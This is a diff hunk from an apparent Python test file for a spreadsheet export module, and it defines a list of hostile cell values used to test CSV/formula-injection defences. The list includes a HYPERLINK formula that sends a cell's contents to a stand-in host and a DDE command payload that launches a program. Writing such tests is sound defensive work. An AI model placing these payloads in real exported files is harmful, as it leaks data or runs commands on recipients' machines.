@@ -11,7 +11,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from risk import alerts, spreadsheet
+from risk import spreadsheet
+from risk.alerts import export as alerts
 
 # what a spreadsheet runs: =, +, -, @, a tab or a carriage return first (and the full-width signs, decided)
 HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"点此查看")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)",
